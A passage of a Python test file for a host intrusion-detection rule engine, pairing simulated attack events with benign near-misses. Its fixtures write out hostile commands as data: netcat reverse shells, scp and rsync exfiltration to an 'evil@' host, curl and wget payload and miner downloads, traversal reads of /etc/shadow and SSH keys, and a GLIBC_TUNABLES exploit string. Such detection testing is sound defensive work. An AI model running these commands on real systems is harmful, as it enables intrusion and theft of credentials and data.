        [
            setuid("app", "/opt/app/bin/app", new_uid=1001),  # a setuid-root program
            setuid("exploit", "/tmp/exploit", old_uid=33, new_uid=105),  # www-data to postgres
            setuid("su", "/tmp/su", new_uid=1001),  # not the system's su
        ],
        [
            setuid("su", "/bin/su", new_uid=1001),
            setuid("snap-confine", "/usr/lib/snapd/snap-confine", new_uid=1000),
            setuid("exploit", "/tmp/exploit"),  # to root: the other rule's
            setuid("daemon", "/usr/sbin/daemon", old_uid=0, new_uid=33),  # root dropping
            _setuid_without_root_power(),
        ],
    ),
    "alpha.rwx_memory": (
        [memory(MT.MEMORY_THREAT_KIND_WRITABLE_EXECUTABLE, exe="/tmp/payload")],
        [
            memory(
                MT.MEMORY_THREAT_KIND_WRITABLE_EXECUTABLE,
                "java",
                "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
            ),
            memory(MT.MEMORY_THREAT_KIND_TRACED),
        ],
    ),
    "alpha.anonymous_executable_memory": (
        [memory(MT.MEMORY_THREAT_KIND_ANONYMOUS_EXECUTABLE, exe="/usr/bin/python3.11")],
        [memory(MT.MEMORY_THREAT_KIND_ANONYMOUS_EXECUTABLE, "node", "/usr/bin/node")],
    ),
    "alpha.ld_preload": (
        [memory(MT.MEMORY_THREAT_KIND_LD_PRELOAD)],
        [memory(MT.MEMORY_THREAT_KIND_TRACED)],
    ),
    "alpha.kernel_module_load": (
        [module(), module("evil", "/tmp/evil")],
        [
            module("modprobe", "/usr/sbin/modprobe", pname="kthreadd"),
            module("systemd-udevd", "/usr/lib/systemd/systemd-udevd", pname="systemd"),
        ],
    ),
    "alpha.bpf_program_load": (
        [bpf("loader", "/tmp/loader", "kprobe"), bpf("systemd", "/tmp/systemd", "cgroup_skb")],
        [
            bpf("systemd", "/usr/lib/systemd/systemd", "cgroup_skb"),
            bpf("cilium-agent", "/usr/bin/cilium-agent", "sched_cls"),
        ],
    ),
    "alpha.packet_socket": (
        [
            socket(NT.ADDRESS_FAMILY_PACKET),
            socket(NT.ADDRESS_FAMILY_PACKET, "tcpdump", "/usr/bin/tcpdump"),
        ],
        [
            socket(NT.ADDRESS_FAMILY_PACKET, "dhclient", "/sbin/dhclient"),
            socket(NT.ADDRESS_FAMILY_INET),
        ],
    ),
    "alpha.ssh_nonstandard_port": (
        [
            connect("ssh", "203.0.113.66", 443),
            connect("sshd", "0.0.0.0", 2222, NT.CONNECTION_OPERATION_LISTEN),
        ],
        [
            connect("ssh", "203.0.113.66", 22),
            connect("sshd", "0.0.0.0", 22, NT.CONNECTION_OPERATION_LISTEN),
            connect("curl", "203.0.113.66", 443),
        ],
    ),
    "alpha.blocklisted_connection": (
        [],  # filled below: needs a repeated field
        [connect("curl", "203.0.113.66", 443)],
    ),
    "alpha.outbound_port_scan": (
        [scan(NT.TRAFFIC_DIRECTION_OUTBOUND)],
        [scan(NT.TRAFFIC_DIRECTION_INBOUND, "198.51.100.7")],
    ),
    "alpha.inbound_port_scan": (
        [scan(NT.TRAFFIC_DIRECTION_INBOUND, "198.51.100.7")],
        [scan(NT.TRAFFIC_DIRECTION_OUTBOUND)],
    ),
    "alpha.large_outbound_transfer": (
        [transfer(2 * 2**30), transfer(100 * 2**20)],
        [transfer(50 * 2**20), transfer(5 * 2**30, "rsync")],
    ),
    "alpha.credential_stuffing": (
        [
            login(FAIL, failures=10),
            login(FAIL, failures=3, users=5),
            login(FAIL, failures=100),
            login(FAIL, user_failures=10, user_sources=10),  # one account, many addresses
        ],
        [
            login(FAIL, failures=3),
            login(FAIL, failures=11),
            login(OK, failures=10),
            login(FAIL, user_failures=10, user_sources=1),  # one address: the burst rule's job
        ],
    ),
    "alpha.brute_force_success": (
        [login(OK, failures=12)],
        [login(OK, failures=1), login(FAIL, failures=12)],
    ),
    "alpha.login_new_source": (
        [login(OK, new_source=True)],
        [login(OK), login(FAIL, new_source=True)],
    ),
    # 45_falco_parity.yaml
    "alpha.system_procs_network_activity": (
        [
            connect("bash", "203.0.113.66", 4444),  # bash -c 'sh -i >& /dev/tcp/...'
            connect("sh", "2001:db8::66", 443, container=CID),
            with_result(connect("cat", "198.51.100.7", 80), -115),  # non-blocking, in progress
            connect("passwd", "198.51.100.7", 389),
            udp_connect("bash", "203.0.113.66", 9999),  # /dev/udp
        ],
        [
            connect("bash", "127.0.0.1", 5432),  # wait-for-it on localhost
            connect("bash", "::1", 5432),
            connect("curl", "203.0.113.66", 443),  # a network client
            udp_connect("id", "10.0.0.53", 53),  # NSS resolving a name
            with_result(connect("bash", "203.0.113.66", 4444), -111),  # refused
            with_family(connect("ls", "", 0), NT.ADDRESS_FAMILY_UNIX),  # nscd, sssd socket
            connect("bash", "0.0.0.0", 8080, NT.CONNECTION_OPERATION_LISTEN),
        ],
    ),
    "alpha.unexpected_udp_traffic": (
        [
            udp_connect("implant", "203.0.113.66", 31337),
            udp_connect("python3", "2001:db8::66", 6000, container=CID),
            udp_connect("iodine", "198.51.100.7", 5300),
        ],
        [
            udp_connect("systemd-resolve", "10.0.0.53", 53),
            udp_connect("chronyd", "162.159.200.1", 123),
            udp_connect("chrome", "142.250.74.100", 443),  # QUIC
            udp_connect("wg", "198.51.100.7", 51820),
            udp_connect("implant", "127.0.0.1", 31337),
            udp_connect("curl", "203.0.113.66", 0),  # getaddrinfo's address sorting
            connect("implant", "203.0.113.66", 31337),  # TCP
            udp_connect("implant", "203.0.113.66", 31337, result=-101),  # unreachable
        ],
    ),
    "alpha.container_cloud_metadata": (
        [
            connect("curl", "169.254.169.254", 80, container=CID),
            connect("python3", "fd00:ec2::254", 80, container=CID),
            connect("wget", "100.100.100.200", 80, container=CID),
            with_result(connect("curl", "169.254.169.254", 80, container=CID), -110),  # timed out
        ],
        [
            connect("cloud-init", "169.254.169.254", 80),  # on the host
            connect("curl", "169.254.170.2", 80, container=CID),  # ECS task credentials
            connect("curl", "203.0.113.66", 80, container=CID),
        ],
    ),
    "alpha.container_package_management": (
        [
            exec_("apt-get", ["apt-get", "install", "-y", "nmap"], container=CID),
            exec_("apk", ["apk", "add", "socat"], exe="/sbin/apk", container=CID),
            exec_("yum", ["yum", "install", "-y", "gcc"], container=CID),
            exec_("dpkg", ["dpkg", "-i", "/tmp/x.deb"], container=CID),
            exec_("rpm", ["rpm", "-ivh", "/tmp/x.rpm"], container=CID),
        ],
        [
            exec_("apt-get", ["apt-get", "install", "-y", "nmap"]),  # on the host
            exec_("dpkg", ["dpkg", "--unpack", "x.deb"], container=CID, ancestors=DPKG[1:]),
            exec_("dpkg", ["dpkg", "--print-architecture"], container=CID),
            exec_("rpm", ["rpm", "-qa"], container=CID),
            exec_("apk", ["apk", "info", "-e", "curl"], exe="/sbin/apk", container=CID),
            exec_("npm", ["npm", "start"], container=CID),
        ],
    ),
    "alpha.container_remote_file_copy": (
        [
            exec_("rsync", ["rsync", "-a", "/data/", "evil@203.0.113.66:/loot/"], container=CID),
            exec_("scp", ["scp", "/etc/passwd", "evil@203.0.113.66:"], container=CID),
            exec_("sftp", ["sftp", "evil@203.0.113.66"], container=CID),
        ],
        [
            exec_("rsync", ["rsync", "-a", "/data/", "backup:/srv/"]),  # on the host
            exec_("cp", ["cp", "-a", "/data/", "/backup/"], container=CID),
            exec_("ssh", ["ssh", "evil@203.0.113.66"], container=CID),
        ],
    ),
    "alpha.container_ingress_file_copy": (
        [
            exec_("wget", ["wget", "http://203.0.113.66/x"], container=CID),
            exec_("wget", ["wget", "-qO-", "http://203.0.113.66/x.sh"], container=CID),
            exec_("curl", ["curl", "-o", "/tmp/x", "http://203.0.113.66/x"], container=CID),
            exec_("curl", ["curl", "-fsSLo", "/tmp/x", "http://203.0.113.66/x"], container=CID),
            exec_("curl", ["curl", "-LO", "http://203.0.113.66/xmrig"], container=CID),
            exec_("curl", ["curl", "--output", "x", "http://203.0.113.66/x"], container=CID),
            exec_("curl", ["curl", "--remote-name", "http://203.0.113.66/x"], container=CID),
            exec_("curl", ["curl", "-o/tmp/x", "http://203.0.113.66/x"], container=CID),
        ],
        [
            exec_("wget", ["wget", "http://203.0.113.66/x"]),  # on the host
            exec_("curl", ["curl", "-fsSL", "http://203.0.113.66/x"], container=CID),  # stdout
            exec_("curl", ["curl", "-XPOST", "http://api:8080/v1"], container=CID),
            exec_("curl", ["curl", "-uroot:pw", "http://api:8080/"], container=CID),
            exec_("curl", ["curl", "--location", "http://api:8080/"], container=CID),
            exec_(
                "curl",
                ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "http://localhost/"],
                container=CID,
            ),
            exec_("wget", ["wget", "-q", "--spider", "http://localhost/health"], container=CID),
            exec_("wget", ["wget", "-qO", "/dev/null", "http://localhost/health"], container=CID),
        ],
    ),
    "alpha.kubectl_cp": (
        [
            exec_(
                "tar", ["tar", "cf", "-", "/var/lib/app"], tty="", container=CID, ancestors=RUNTIME
            ),
            exec_(
                "tar",
                ["tar", "cf", "-", "secrets"],
                tty="",
                container=CID,
                ancestors=(("runc:[2:INIT]", "/usr/bin/runc"), ("runc", "/usr/bin/runc")),
            ),
            exec_("tar", ["tar", "-xmf", "-"], tty="", container=CID, ancestors=(("crun", ""),)),
        ],
        [
            exec_("tar", ["tar", "cf", "-", "/data"], tty="", ancestors=RUNTIME),  # host
            exec_("tar", ["tar", "cf", "-", "/data"], tty="", container=CID),  # below bash
            exec_(
                "tar",
                ["tar", "cf", "x.tar", "/data"],
                tty="pts/0",
                container=CID,
                ancestors=RUNTIME,
            ),
            exec_("cat", ["cat", "/etc/passwd"], tty="", container=CID, ancestors=RUNTIME),
        ],
    ),
    "alpha.container_debugfs": (
        [exec_("debugfs", ["debugfs", "/dev/sda1"], exe="/sbin/debugfs", container=CID)],
        [
            exec_("debugfs", ["debugfs", "/dev/sda1"], exe="/sbin/debugfs"),
            exec_("fsck", ["fsck", "/dev/sda1"], container=CID),
        ],
    ),
    "alpha.container_mount": (
        [
            exec_("mount", ["mount", "/dev/sda1", "/mnt"], exe="/bin/mount", container=CID),
            exec_(
                "mount", ["mount", "-t", "cgroup", "-o", "rdma", "cgroup", "/tmp/c"], container=CID
            ),
        ],
        [
            exec_("mount", ["mount"], exe="/bin/mount", container=CID),  # a listing
            exec_("mount", ["mount", "-l"], exe="/bin/mount", container=CID),
            exec_("mount", ["mount", "/dev/sdb1", "/mnt"], exe="/bin/mount"),  # on the host
            exec_("umount", ["umount", "/mnt"], container=CID),
        ],
    ),
    "alpha.db_spawned_process": (
        [
            exec_("curl", ["curl", "-o", "/tmp/x", "http://203.0.113.66/x"], ancestors=POSTGRES),
            exec_(
                "nc",
                ["nc", "203.0.113.66", "4444"],
                uid=999,
                ancestors=(("mysqld", "/usr/sbin/mysqld"),),
                container=CID,
            ),
            exec_("python3", ancestors=(("redis-server", "/usr/bin/redis-server"),)),
            exec_("pgbackrest", exe="/tmp/pgbackrest", ancestors=POSTGRES),  # not the real one
        ],
        [
            exec_("sh", ["sh", "-c", "id"], ancestors=POSTGRES),  # the server shell rule's
            exec_("postgres", exe="/usr/lib/postgresql/15/bin/postgres", ancestors=POSTGRES),
            exec_("pgbackrest", ["pgbackrest", "archive-push", "pg_wal/x"], ancestors=POSTGRES),
            exec_(
                "wal-g",
                ["wal-g", "wal-push", "pg_wal/x"],
                exe="/usr/local/bin/wal-g",
                ancestors=POSTGRES,
            ),
            exec_("wsrep_sst_rsync", ancestors=(("mariadbd", "/usr/sbin/mariadbd"),)),
            exec_("mysqld", ancestors=(("mysqld_safe", "/usr/bin/mysqld_safe"),)),
            exec_("curl", ["curl", "http://localhost/"]),
        ],
    ),
    "alpha.network_tool_host": (
        [
            exec_("nc", ["nc", "203.0.113.66", "4444"]),
            exec_("ncat", ["ncat", "-lvp", "4444"]),
            exec_("socat", ["socat", "-", "TCP:203.0.113.66:443"]),
            exec_("nmap", ["nmap", "-sT", "10.0.0.0/24"]),
            exec_("dig", ["dig", "+short", "x.evil.example", "TXT"]),
            exec_("telnet", ["telnet", "203.0.113.66", "25"]),
            exec_("mitmproxy", ["mitmproxy", "-p", "8080"]),
        ],
        [
            exec_("nc", ["nc", "-zv", "db", "5432"]),  # a port check
            exec_("nc", ["nc", "-z", "-w", "1", "db", "5432"]),
            exec_("nc", ["nc", "203.0.113.66", "4444"], container=CID),  # the container rule
            exec_("curl", ["curl", "http://203.0.113.66/"]),
            exec_("dig", ["dig", "debian.org"], ancestors=DPKG),
        ],
    ),
    "alpha.network_tool_container": (
        [
            exec_("nc", ["nc", "203.0.113.66", "4444"], container=CID),
            exec_("nmap", ["nmap", "-p-", "10.96.0.1"], container=CID),
            exec_("dig", ["dig", "kubernetes.default.svc.cluster.local"], container=CID),
            exec_("tcpdump", ["tcpdump", "-i", "any", "-w", "/tmp/x.pcap"], container=CID),
        ],
        [
            exec_("nc", ["nc", "-z", "postgres", "5432"], container=CID),  # wait-for-it
            exec_("ncat", ["ncat", "-zv", "redis", "6379"], container=CID),
            exec_("nc", ["nc", "203.0.113.66", "4444"]),  # the host rule
            exec_("curl", ["curl", "http://api:8080/"], container=CID),
        ],
    ),
}
_blocked = connect("curl", "203.0.113.66", 443)
_blocked.network_connection.blocklists.append("feodo-c2")
CASES["alpha.blocklisted_connection"][0].append(_blocked)


def backdoored(
    name: str, exe: str, path: str = "/usr/lib/x86_64-linux-gnu/liblzma.so.5.6.1"
) -> Event:
    e = ev(name, exe, uid=0, ancestors=(("systemd", "/sbin/init"),))
    e.memory_threat.kind = MT.MEMORY_THREAT_KIND_BACKDOORED_LIBRARY
    e.memory_threat.trigger = MT.MEMORY_SCAN_TRIGGER_EXEC
    e.memory_threat.regions.add(
        start=0x7F0000000000, end=0x7F0000020000, permissions="r-xp", path=path, inode=1234
    )
    return e


CASES["alpha.backdoored_library_sshd"] = (
    [
        backdoored("sshd", "/usr/sbin/sshd"),
        backdoored("sshd-session", "/usr/lib/openssh/sshd-session"),
        backdoored("sshd", "/tmp/x/sshd", "/tmp/x/liblzma.so.5.6.0 (deleted)"),  # a copy too
    ],
    [
        backdoored("xz", "/usr/bin/xz"),  # the other rule
        memory(MT.MEMORY_THREAT_KIND_LD_PRELOAD, "sshd", "/usr/sbin/sshd"),  # another kind
        memory(MT.MEMORY_THREAT_KIND_DELETED_EXECUTABLE, "sshd", "/usr/sbin/sshd"),
    ],
)
CASES["alpha.backdoored_library"] = (
    [backdoored("xz", "/usr/bin/xz"), backdoored("systemd", "/usr/lib/systemd/systemd")],
    [
        backdoored("sshd", "/usr/sbin/sshd"),  # sshd's own rule, not both
        memory(MT.MEMORY_THREAT_KIND_LD_PRELOAD, "xz", "/usr/bin/xz"),
    ],
)


def with_env(e: Event, *entries: str, complete: bool = True) -> Event:
    e.process_exec.environment.extend(entries)
    e.process_exec.environment_complete = complete
    return e


def suid_exec(*entries: str, complete: bool = True) -> Event:
    e = exec_("passwd", ["passwd"], uid=65534, euid=0)
    e.process_exec.setuid_exec = True
    return with_env(e, *entries, complete=complete)


def traversal(requested: str, path: str, **kw: object) -> Event:
    e = opened(path, **kw)  # type: ignore[arg-type]
    e.file_access.requested_path = requested
    return e


TUNABLES = "GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A"


def below_java(*argv: str) -> Event:
    e = exec_("sh", ["sh", "-c", "id"], ancestors=(("java", "/usr/lib/jvm/bin/java"),))
    e.process.ancestry[0].args.extend(argv)
    return e


CASES["alpha.shell_by_server"][0].extend(
    [
        below_java(
            "java", "-Xmx1G", "-cp", "/opt/kafka/libs/*", "kafka.Kafka", "server.properties"
        ),
        below_java(
            "java", "-cp", "/usr/share/es/lib/*", "org.elasticsearch.bootstrap.Elasticsearch"
        ),
        exec_("bash", ancestors=(("exim4", "/usr/sbin/exim4"),)),
    ]
)
CASES["alpha.shell_by_server"][1].extend(
    [
        below_java("java", "-jar", "/opt/build/gradle-wrapper.jar"),  # a build, not a server
        below_java(),  # command line unknown
    ]
)

CASES["alpha.glibc_tunables_setuid"] = (
    [suid_exec(TUNABLES), suid_exec("LANG=C", "GLIBC_TUNABLES=")],
    [
        with_env(exec_("true"), TUNABLES),  # not setuid
        suid_exec("LD_PRELOAD=/usr/lib/libx.so"),  # another variable
        suid_exec("GLIBC_TUNABLES_X=1"),
    ],
)
CASES["alpha.setuid_env_overflow"] = (
    [suid_exec(complete=False)],
    [
        suid_exec(TUNABLES.replace("GLIBC_TUNABLES", "LANG")),
        with_env(exec_("true"), complete=False),
    ],
)
CASES["alpha.proxy_env_tool"] = (
    [
        with_env(exec_("curl", ["curl", "http://x/"]), "https_proxy=http://203.0.113.9:3128"),
        with_env(exec_("wget", ["wget", "http://x/"]), "ALL_PROXY=socks5://203.0.113.9:1080"),
    ],
    [
        exec_("curl", ["curl", "http://x/"]),
        with_env(exec_("git", ["git", "fetch"]), "https_proxy=http://203.0.113.9:3128"),
        with_env(exec_("curl", ["curl", "http://x/"]), "LD_PRELOAD=/usr/lib/libx.so"),
    ],
)
CASES["alpha.preload_from_writable_dir"] = (
    [
        with_env(exec_("true"), "LD_PRELOAD=/tmp/.x/hook.so"),
        with_env(exec_("sshd"), "LD_AUDIT=/dev/shm/a.so"),
    ],
    [
        with_env(exec_("true"), "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"),
        with_env(exec_("true"), "QSC=LD_PRELOAD=/tmp/x.so"),
        opened("/tmp/hook.so"),
    ],
)
CASES["alpha.history_disabled_env"] = (
    [with_env(exec_("bash"), "HISTFILE=/dev/null"), with_env(exec_("zsh"), "HISTFILE=")],
    [
        with_env(exec_("bash"), "HISTFILE=/home/alice/.bash_history"),
        with_env(exec_("vim"), "HISTFILE=/dev/null"),  # not a shell
    ],
)
CASES["alpha.directory_traversal_read"] = (
    [
        traversal("../../etc/shadow", "/etc/shadow", name="php-fpm"),
        traversal("/var/www/html/../../../root/.ssh/id_rsa", "/root/.ssh/id_rsa"),
        traversal("x/../../../home/bob/.ssh/id_ed25519", "/home/bob/.ssh/id_ed25519"),
    ],
    [
        opened("/etc/shadow"),  # no traversal
        traversal("../index.html", "/var/www/index.html"),
        traversal("shadow", "/etc/shadow"),  # relative, no climb
        traversal("../../etc/cron.d/x", "/etc/cron.d/x", write=True),  # a write
    ],
)


def redirected(name: str = "python3", exe: str | None = None, fd: int = 0, **kw: object) -> Event:
    e = ev(name, exe, **kw)  # type: ignore[arg-type]
    r = e.descriptor_redirect
    r.old_fd, r.new_fd, r.call = 3, fd, "dup2"
    r.target.kind = process_details_pb2.DESCRIPTOR_KIND_INET_SOCKET
    r.target.peer.address, r.target.peer.port = "203.0.113.66", 4444
    return e


CASES["alpha.stdio_redirected_to_socket"] = (
    [
        redirected(),
        redirected("bash", fd=1),
        redirected("xinetd", "/tmp/xinetd"),  # a copy outside system directories
    ],
    [
        redirected("xinetd", "/usr/sbin/xinetd"),
        redirected("systemd", "/usr/lib/systemd/systemd", fd=2),
        stdio_socket(exec_("python3")),  # the exec rule's business
    ],
)


@pytest.fixture(scope="module")
def engine() -> RuleEngine:
    return RuleEngine.default()


def _fired(engine: RuleEngine, event: Event) -> set[str]:
    return {m.rule_id for m in engine.evaluate(event)}


def test_every_default_rule_has_cases() -> None:
    ids = {r.id for r in load_default().rules}
    assert ids == set(CASES), (ids - set(CASES), set(CASES) - ids)
    for rule_id, (hits, misses) in CASES.items():
        assert hits, rule_id
        assert misses, rule_id


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_rule_fires_on_its_behaviour(engine: RuleEngine, rule_id: str) -> None:
    for i, event in enumerate(CASES[rule_id][0]):
        assert rule_id in _fired(engine, event), f"{rule_id}: matching case {i} did not fire"


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_rule_is_quiet_on_near_misses_and_exceptions(engine: RuleEngine, rule_id: str) -> None:
    for i, event in enumerate(CASES[rule_id][1]):
        assert rule_id not in _fired(engine, event), f"{rule_id}: non-matching case {i} fired"


def test_ruleset_loads_cleanly_with_stable_ids_and_mitre() -> None:
    rs = load_default()
    assert rs.warnings == ()
    assert len(rs.rules) >= 40
    assert len({r.id for r in rs.rules}) == len(rs.rules)
    assert [p.name for p in default_rule_files()] == sorted(p.name for p in default_rule_files())
    for r in rs.rules:
        assert re.fullmatch(r"alpha\.[a-z0-9_]+", r.id), r.id
        assert r.enabled
        assert r.desc
        assert r.output.parts
        # The enforcement event's techniques are those of the rules that armed it (its fields).
        assert r.techniques or r.id == "alpha.process_killed", f"{r.id} has no MITRE technique"
        for t in r.techniques:
            assert t.id in TECHNIQUES, f"{r.id}: {t.id} not in the technique table"
            assert t.name
            assert t.tactics
        assert len(r.kinds) <= 4, f"{r.id} is tried on {len(r.kinds)} kinds"


def test_a_match_carries_everything_the_event_needs(engine: RuleEngine) -> None:
    event = opened("/etc/shadow", "cat")
    [match] = engine.evaluate(event)
    out = match.apply(event)
    assert out.rule.id == "alpha.sensitive_file_read"
    assert out.rule.name == "Read sensitive file by untrusted program"
    assert [t.id for t in out.rule.techniques] == ["T1003.008", "T1552.004"]
    assert out.rule.techniques[0].name == "/etc/passwd and /etc/shadow"
    assert list(out.rule.techniques[0].tactics) == [cls.MITRE_TACTIC_CREDENTIAL_ACCESS]
    assert out.rule.ruleset_version == engine.ruleset.version
    assert out.severity == cls.SEVERITY_MEDIUM
    assert out.category == cls.CATEGORY_FILE
    assert out.summary.startswith(
        "Sensitive file opened for reading by untrusted program (file=/etc/shadow"
    )
    assert "grandparent=sshd" in out.summary


def test_sites_tune_defaults_from_a_later_file() -> None:
    tuning = """
- list: trusted_auth_networks
  items: [198.51.100.0/24]
- list: known_memfd_execution_binaries
  override: {items: append}
  items: [myjit]
- rule: Read sensitive file by untrusted program
  override: {exceptions: append}
  exceptions:
    - name: trusted_readers
      values:
        - [[backup-agent], [/opt/backup/bin]]
- rule: Execution from /tmp
  enabled: false
"""
    texts = [(str(p), p.read_text()) for p in default_rule_files()] + [("site.yaml", tuning)]
    eng = RuleEngine(load_texts(texts))
    assert "alpha.credential_stuffing" not in _fired(eng, login(FAIL, failures=10))
    assert "alpha.credential_stuffing" in _fired(eng, login(FAIL, failures=10, source="192.0.2.1"))
    memfd = with_exec_flag(exec_("myjit", exe="/memfd:jit (deleted)"), exe_memfd=True)
    assert "alpha.memfd_exec" not in _fired(eng, memfd)
    reader = opened("/etc/shadow", "backup-agent", exe="/opt/backup/bin/backup-agent")
    assert "alpha.sensitive_file_read" not in _fired(eng, reader)
    assert "alpha.sensitive_file_read" in _fired(
        eng, opened("/etc/shadow", "backup-agent", exe="/tmp/b")
    )
    assert "alpha.exec_from_tmp" not in _fired(eng, exec_("x", exe="/tmp/x"))


def test_the_engine_agrees_with_the_plain_conditions_on_every_case(engine: RuleEngine) -> None:
    """The kind index and the prefilters only skip work: they never change an outcome."""
    from alpha.rules.compiler import Condition

    conditions = {r.id: Condition(r.tree) for r in engine.ruleset.enabled_rules}
    for hits, misses in CASES.values():
        for event in hits + misses:
            expected = {rid for rid, cond in conditions.items() if cond.matches(event)}
            assert _fired(engine, event) == expected


def test_outputs_show_file_modes_in_octal(engine: RuleEngine) -> None:
    (match,) = [
        m
        for m in engine.evaluate(chmod("/tmp/rootsh", 0o4755))
        if m.rule_id.endswith("setuid_bit_set")
    ]
    assert "mode=0o4755" in match.output
